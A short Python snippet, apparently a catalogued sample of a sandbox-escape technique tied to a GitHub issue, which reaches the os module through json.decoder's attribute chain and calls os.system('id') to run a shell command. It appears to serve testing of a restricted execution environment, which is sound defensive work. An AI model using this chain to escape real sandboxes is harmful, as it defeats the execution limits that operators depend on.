# Source: https://github.com/VectorlyApp/bluebox/issues/126
# Family: module-attribute
# What: json.__spec__.loader re-used to create and exec the os module
import json

ld = json.decoder.__spec__.loader
print(ld)
json.decoder.re.enum.sys.modules["os"].system("id")
